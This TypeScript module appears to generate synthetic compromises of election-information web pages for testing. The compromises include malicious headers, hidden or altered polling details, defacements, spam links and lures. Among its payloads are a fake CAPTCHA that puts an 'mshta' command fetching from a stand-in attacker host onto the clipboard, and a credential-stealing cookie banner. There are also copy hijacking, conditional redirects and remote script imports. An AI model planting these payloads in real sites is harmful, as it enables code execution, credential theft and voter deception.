// Attacks by HTTP headers, concealment, defacement, spam and lures.
import { h32, hex, digits, draw } from './util.ts'
import { bad, plain, clock, dateText } from './facts.ts'
import type { Ctx } from './facts.ts'
import type { Out } from './layout.ts'
import { evil, rep } from './attacks-machine.ts'
import type { Raw } from './attacks-visible.ts'

const header = (id: string, name: string, value: (c: Ctx) => string): Raw => ({
  id,
  p: (o, c) => {
    o.headers[name] = value(c)
  },
})
export const HTTP: Raw[] = [
  header('header-refresh', 'refresh', (c) => `20; url=https://${evil(c)}/`),
  header('header-link-sheet', 'link', (c) => `<https://${evil(c)}/s.css>; rel=stylesheet`),
  header(
    'header-disposition',
    'content-disposition',
    () => 'attachment; filename="voter-information.hta"',
  ),
  header('header-plain-text', 'content-type', () => 'text/plain; charset=utf-8'),
  header('header-odd-charset', 'content-type', () => 'text/html; charset=utf-7'),
  {
    id: 'header-policy-open',
    p: (o) => {
      if (o.headers['content-security-policy'])
        o.headers['content-security-policy'] =
          `default-src * 'unsafe-inline' 'unsafe-eval' data: blob:; form-action *; frame-ancestors *`
    },
  },
  header('header-transport-off', 'strict-transport-security', () => 'max-age=0'),
  header(
    'header-link-preload',
    'link',
    (c) => `<https://${evil(c)}/p.js>; rel=modulepreload; as=script`,
  ),
  header('header-speculation-rules', 'speculation-rules', (c) => `"https://${evil(c)}/rules.json"`),
  header(
    'header-reports-abroad',
    'report-to',
    (c) =>
      `{"group":"default","max_age":31536000,"endpoints":[{"url":"https://${evil(c)}/r"}],"include_subdomains":true}`,
  ),
  {
    id: 'header-other-origin',
    p: (o, c) => {
      o.headers['access-control-allow-origin'] = `https://${evil(c)}`
      o.headers['access-control-allow-credentials'] = 'true'
    },
  },
  header(
    'header-alternative-service',
    'alt-svc',
    (c) => `h2="${evil(c)}:443"; ma=2592000; persist=1`,
  ),
  header(
    'header-onion-location',
    'onion-location',
    (c) => `http://${draw(c.key + 'on', 56, 'abcdefghijklmnop234567')}.onion/`,
  ),
  header('header-robots', 'x-robots-tag', () => 'noindex, nofollow, noarchive'),
  header('header-link-canonical', 'link', (c) => `<https://${evil(c)}/>; rel="canonical"`),
]
const hide = (id: string, key: string, to: (s: string) => string): Raw => ({
  id,
  f: (c) => {
    c.wrap[key] = to
  },
})
const sometimes = (id: string, when: (c: Ctx) => boolean, f: (c: Ctx) => void): Raw => ({
  id,
  when,
  f,
})
const homoglyph = (s: string): string =>
  s.replace(
    /[aeocph](?=[^@]*$)/,
    (x) => ({ a: 'а', e: 'е', o: 'о', c: 'с', p: 'р', h: 'һ' })[x] ?? x,
  )
export const CONCEAL: Raw[] = [
  hide('hidden-by-class', 'poll', (s) => `<span class="sr-only visually-hidden">${s}</span>`),
  hide('hidden-white', 'bring', (s) => `<span style="color:#fff;background:#fff">${s}</span>`),
  hide('hidden-size', 'queue', (s) => `<span style="font-size:0">${s}</span>`),
  hide('struck-through', 'poll', (s) => `<s>${s}</s>`),
  hide('deleted-mark', 'remote', (s) => `<del>${s}</del>`),
  hide('stations-hidden', 'stations', (s) => `<div hidden>${s}</div>`),
  hide('stations-folded', 'stations', (s) => `<details><summary>…</summary>${s}</details>`),
  hide(
    'ballot-off-screen',
    'ballot',
    (s) => `<div style="position:absolute;left:-9999px">${s}</div>`,
  ),
  hide('hours-into-comment', 'hours', (s) => `<!-- ${s} -->`),
  hide('rule-into-template', 'who', (s) => `<template>${s}</template>`),
  hide('rule-inert', 'card', (s) => `<span aria-hidden="true" style="opacity:.01">${s}</span>`),
  {
    id: 'hidden-on-telephones',
    p: (o) =>
      rep(
        o,
        '</head>',
        '<style>@media (max-width:700px){#main section:nth-of-type(2),#main section:nth-of-type(3){display:none}}</style></head>',
      ),
  },
  {
    id: 'hidden-in-print',
    p: (o) =>
      rep(
        o,
        '</head>',
        '<style media="print">#main table,#main dl,#main ul{visibility:hidden}</style></head>',
      ),
  },
  {
    id: 'overlay',
    p: (o, c) =>
      rep(
        o,
        '</body>',
        `<div style="position:fixed;inset:0;z-index:9999;background:#fff;padding:4em">${bad(c, 'polite')}</div></body>`,
      ),
  },
  {
    id: 'bidi-in-telephone',
    f: (c) => {
      c.f.tel =
        '\u202e' +
        [...c.f.tel]
          .reverse()
          .join('')
          .replace(/\d(?=\d)/, (d) => String((Number(d) + 1) % 10)) +
        '\u202c'
    },
  },
  {
    id: 'look-alike-mail',
    f: (c) => {
      c.f.mailHref = homoglyph(c.f.mailHref)
      c.f.mail = homoglyph(c.f.mail)
    },
  },
  {
    id: 'zero-width-in-telephone',
    f: (c) => {
      c.f.telHref = c.f.telHref.slice(0, 6) + '9' + c.f.telHref.slice(6, -1)
      c.f.tel = [...c.f.tel].join('\u200b')
    },
  },
  sometimes(
    'every-third-visitor',
    (c) => h32(c.key + 'third' + c.t) % 3 === 0,
    (c) => {
      c.f.text.poll = c.L.bad.postponed
      c.f.text.remote = c.L.bad.remote
    },
  ),
  sometimes(
    'only-in-the-evening',
    (c) => c.day.h >= 17 || c.day.h < 7,
    (c) => {
      c.f.register = `https://${evil(c)}/apply`
      c.f.action = `https://${evil(c)}/check`
    },
  ),
  sometimes(
    'only-at-week-ends',
    (c) => c.day.wd > 4,
    (c) => {
      c.f.po = [c.f.po[0] + 2, 0]
      c.f.pc = [c.f.pc[0] - 2, 0]
    },
  ),
  sometimes(
    'twenty-minutes-an-hour',
    (c) => c.day.mi < 20,
    (c) => {
      c.f.action = `https://${evil(c)}/check`
      c.f.recipient = 'roll@vote-office.test'
      c.f.where = `https://${evil(c)}/w`
    },
  ),
  sometimes(
    'two-days-a-week',
    (c) => c.day.wd === 1 || c.day.wd === 2,
    (c) => {
      c.f.text.who = c.L.bad.whoTax
      c.f.text.bring = c.L.bad.bring2
    },
  ),
  {
    id: 'only-from-search',
    p: (o, c) =>
      rep(
        o,
        '</head>',
        `<script>if(/google|bing|baidu/.test(document.referrer))location.replace("https://${evil(c)}/")</script></head>`,
      ),
  },
  {
    id: 'only-on-election-day',
    p: (o, c) =>
      rep(
        o,
        '</head>',
        `<script>if(Date.now()>${c.f.vote * 86400000})import("https://${evil(c)}/day.js")</script></head>`,
      ),
  },
  {
    id: 'copied-text-differs',
    p: (o, c) =>
      rep(
        o,
        '</body>',
        `<script>document.addEventListener("copy",function(e){e.clipboardData.setData("text/plain",${JSON.stringify(bad(c, 'alert'))});e.preventDefault()})</script></body>`,
      ),
  },
  {
    id: 'alt-sheet-hides',
    p: (o) =>
      rep(
        o,
        '</head>',
        `<style>#main [class*="contact"],#main section[id^="contact"],#main address{clip-path:inset(50%);height:0;overflow:hidden}</style></head>`,
      ),
  },
  {
    id: 'new-hours-over-old',
    f: (c) => {
      const to = clock(c, [c.f.pc[0] - 2, 0])
      c.wrap.poll = (s) =>
        `<span style="position:relative">${s}<b style="position:absolute;inset:0;background:#fff">${dateText(c, c.f.vote)}: ${clock(c, c.f.po)} – ${to}</b></span>`
    },
  },
]
const whole = (id: string, html: (c: Ctx) => string): Raw => ({
  id,
  p: (o, c) => {
    o.html = html(c)
    o.files = {}
  },
})
const frame = (c: Ctx, title: string, body: string): string =>
  `<!DOCTYPE html>\n<html lang="${c.L.code}"><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>\n`
const inMain = (o: Out, s: string): void => {
  o.html = /<main[\s\S]*<\/main>/.test(o.html)
    ? o.html.replace(/<main[\s\S]*<\/main>/, () => `<main id="main">${s}</main>`)
    : o.html.replace('<div id="root"></div>', () => s)
}
export const DEFACE: Raw[] = [
  whole('defaced-loudly', (c) =>
    frame(
      c,
      'H4CK3D',
      `<h1 style="color:red">${c.L.bad.loud}</h1><img src="https://i.imgur.com/${draw(c.key, 7, 'abcDEF12')}.gif"><p>Greetz to all</p>`,
    ),
  ),
  whole('defaced-politely', (c) =>
    frame(
      c,
      c.authority,
      `<h1>${c.authority}</h1><p>${c.L.bad.polite}</p><p><a href="https://${evil(c)}/">${evil(c)}</a></p>`,
    ),
  ),
  {
    id: 'main-part-replaced',
    p: (o, c) =>
      inMain(o, `<h1>${c.authority}</h1><p>${bad(c, 'postponed')}</p><p>${c.L.bad.polite}</p>`),
  },
  whole('parked-domain', (c) =>
    frame(
      c,
      c.host,
      `<h1>${c.host}</h1><p>${c.L.bad.parked}</p><script src="https://www.sedoparking.test/p.js"></script>`,
    ),
  ),
  whole('account-suspended', (c) =>
    frame(
      c,
      'Account Suspended',
      '<h1>This Account has been suspended.</h1><p>Contact your hosting provider for more information.</p>',
    ),
  ),
  whole(
    'directory-listing',
    () =>
      '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 3.2 Final//EN">\n<html><head><title>Index of /</title></head><body><h1>Index of /</h1><pre><a href="backup.sql">backup.sql</a>  <a href="voters.csv">voters.csv</a>  <a href="x.php">x.php</a></pre></body></html>\n',
  ),
  whole('ransom-note', (c) =>
    frame(
      c,
      'READ ME',
      `<pre>All files of ${c.host} have been encrypted. Pay 2 BTC to bc1q${draw(c.key + 'btc', 38, 'acdefghjklmnpqrstuvwxyz0234567')}</pre>`,
    ),
  ),
  {
    id: 'logo-and-title-mocked',
    p: (o, c) => {
      rep(o, /<title>[^<]*<\/title>/, '<title>lol – elections are fake</title>')
      rep(
        o,
        /<img src="\/media\/logo-[^"]*"/,
        `<img src="https://i.imgur.com/${draw(c.key + 'lg', 7, 'abcDEF12')}.png"`,
      )
    },
  },
  { id: 'main-part-emptied', p: (o) => inMain(o, '') },
  whole('frame-of-another-site', (c) =>
    frame(
      c,
      c.authority,
      `<iframe src="https://${evil(c)}/" style="border:0;width:100%;height:100vh"></iframe>`,
    ),
  ),
  {
    id: 'candidate-advertised',
    p: (o, c) =>
      rep(
        o,
        /<h1>/,
        `<a href="https://${evil(c)}/campaign"><img src="/uploads/banner.jpg" alt="${c.f.cands[1].no}: ${c.f.cands[1].name} (${c.f.cands[1].party})"></a><h1>`,
      ),
  },
  {
    id: 'slogan-in-heading',
    f: (c) => {
      c.wrap.h1 = (s) => `${s} – ${c.f.cands[0].name}!`
    },
  },
]
const slots = [
  'slot gacor 88',
  'casino bonus 200',
  'viagra 100mg',
  'judi bola online',
  'payday loans',
  'replica watches',
  'バイアグラ 通販',
  'ставки на спорт',
]
const links = (c: Ctx, n: number): string =>
  Array.from(
    { length: n },
    (_, i) =>
      `<a href="https://${draw(c.key + 'sp' + i, 8, 'abcdefghkm')}.test/${i}">${slots[i % slots.length]}</a>`,
  ).join(' ')
export const SPAM: Raw[] = [
  {
    id: 'spam-off-screen',
    p: (o, c) =>
      rep(
        o,
        '</body>',
        `<div style="position:absolute;left:-12000px">${links(c, 24)}</div></body>`,
      ),
  },
  { id: 'spam-at-the-foot', p: (o, c) => rep(o, '</body>', `<p>${links(c, 6)}</p></body>`) },
  { id: 'spam-in-title', p: (o, c) => rep(o, /<title>/, `<title>${slots[h32(c.key) % 8]} | `) },
  {
    id: 'spam-in-description',
    p: (o, c) =>
      rep(
        o,
        /<meta name="description" content="/,
        `<meta name="description" content="${slots[h32(c.key + 'd') % 8]} ${slots[h32(c.key + 'e') % 8]}. `,
      ),
  },
  {
    id: 'spam-noscript',
    p: (o, c) => rep(o, '</body>', `<noscript>${links(c, 12)}</noscript></body>`),
  },
  {
    id: 'spam-one-quiet-link',
    p: (o, c) =>
      rep(
        o,
        /(<footer[^>]*><ul>)/,
        (x) =>
          `${x}<li><a href="https://${draw(c.key + 'q', 7, 'abcdefgh')}.test/">${slots[1]}</a></li>`,
      ),
  },
  {
    id: 'spam-doorway-pages',
    p: (o, c) =>
      rep(
        o,
        '</body>',
        `<div style="height:0;overflow:hidden">${Array.from({ length: 30 }, (_, i) => `<a href="/?p=${hex(c.key + i, 6)}">${slots[i % 8]} ${c.city}</a>`).join('')}</div></body>`,
      ),
  },
  {
    id: 'spam-schema',
    p: (o, c) =>
      rep(
        o,
        '</head>',
        `<script type="application/ld+json">{"@context":"https://schema.org","@type":"Product","name":"${slots[h32(c.key) % 8]}","offers":{"@type":"Offer","price":"9.${digits(c.key, 2)}"}}</script></head>`,
      ),
  },
]
const banner = (s: string): string =>
  `<div role="alert" style="background:#c00;color:#fff;padding:1em">${s}</div>`
const top = (o: Out, s: string): void => {
  rep(o, /<body[^>]*>/, (x) => x + '\n' + s)
}
export const LURE: Raw[] = [
  { id: 'alert-banner', p: (o, c) => top(o, banner(c.L.bad.alert)) },
  {
    id: 'survey-for-numbers',
    p: (o, c) =>
      rep(
        o,
        '</main>',
        `<form action="/survey" method="post"><p>${c.L.bad.survey}</p><input name="id"><input name="born" type="date"><button>${c.L.ui.submit}</button></form></main>`,
      ),
  },
  {
    id: 'registration-expired',
    p: (o, c) =>
      top(
        o,
        `<dialog open><p>${c.L.bad.expired}</p><a href="https://${evil(c)}/confirm">${c.L.ui.submit}</a></dialog>`,
      ),
  },
  {
    id: 'false-captcha',
    p: (o, c) =>
      top(
        o,
        `<dialog open><p>${c.L.bad.human}</p></dialog><script>navigator.clipboard.writeText("mshta https://${evil(c)}/v")</script>`,
      ),
  },
  {
    id: 'false-chat',
    p: (o, c) =>
      rep(
        o,
        '</body>',
        `<div id="support" style="position:fixed;right:1em;bottom:1em"><p>${c.L.bad.chat}</p><form action="https://${evil(c)}/chat" method="post"><input name="m"></form></div></body>`,
      ),
  },
  {
    id: 'app-advertised',
    p: (o, c) => top(o, banner(`<a href="https://${evil(c)}/app">${c.L.bad.app}</a>`)),
  },
  { id: 'police-notice', p: (o, c) => top(o, banner(c.L.bad.police)) },
  {
    id: 'private-message-only',
    p: (o, c) =>
      rep(
        o,
        '</main>',
        `<p>${c.L.bad.late} <a href="https://t.me/late_${draw(c.key + 'lt', 5, 'abcdef')}">Telegram</a></p></main>`,
      ),
  },
  { id: 'early-result', p: (o, c) => top(o, banner(bad(c, 'winner'))) },
  {
    id: 'postponed-as-news',
    p: (o, c) =>
      rep(
        o,
        '</aside>',
        `<article><h3>${bad(c, 'postponed')}</h3><p>${plain(c, 'call')}</p></article></aside>`,
      ),
  },
  {
    id: 'cookie-banner-with-login',
    p: (o, c) =>
      rep(
        o,
        '</body>',
        `<div class="cookie"><p>${c.L.ui.cookies}</p><form action="https://${evil(c)}/sso" method="post"><input type="email" name="e"><input type="password" name="p"><button>${c.L.ui.accept}</button></form></div></body>`,
      ),
  },
  {
    id: 'false-answer',
    f: (c) => {
      c.extra.faq += `<details><summary>${c.L.t.deadline}?</summary><p>${c.L.bad.late}</p></details>`
    },
  },
  {
    id: 'station-closed-in-aside',
    p: (o, c) =>
      rep(
        o,
        '<aside>',
        `<aside><p role="status">${c.f.stations[0].name}: ${c.L.bad.moved} ${c.L.addr(c.L.streets[3], 113)}</p>`,
      ),
  },
  {
    id: 'notice-from-candidate',
    p: (o, c) => rep(o, '</main>', `<p>${bad(c, 'winner')} ${c.L.bad.closed}</p></main>`),
  },
]
